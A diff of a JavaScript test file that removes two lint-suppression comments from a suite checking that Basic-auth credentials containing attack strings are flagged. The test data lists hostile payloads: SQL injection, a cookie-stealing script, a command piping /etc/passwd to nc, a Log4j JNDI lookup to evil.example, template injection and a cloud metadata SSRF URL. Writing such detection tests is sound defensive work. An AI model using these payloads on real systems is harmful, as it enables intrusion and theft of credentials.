@@ -28,7 +28,6 @@ const ATTACKS = [
   "1' UNION SELECT username,password FROM users-- -",
   '<script>alert(document.cookie)</script>',
   '; cat /etc/passwd | nc 10.1.1.1 99',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: what Log4j looks up
   '${jndi:ldap://evil.example/a}',
   '{{7*7}}{{config.items()}}',
   'http://169.254.169.254/latest/meta-data/iam/',
@@ -86,7 +85,6 @@ describe('Basic credentials', () => {
     refused(['Authorization', `Basic ${Buffer.from(text).toString('base64')}`])
 
   test('what chance does not make is found in a password too', () => {
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: what Log4j looks up
     for (const attack of ['${jndi:ldap://evil.example/a}', '<script>alert(document.cookie)</script>'])
       assert.notDeepEqual(basic(`bob:${attack}`), [], attack)
     assert.notDeepEqual(basic("x' UNION SELECT username,password FROM users-- -:y"), [])
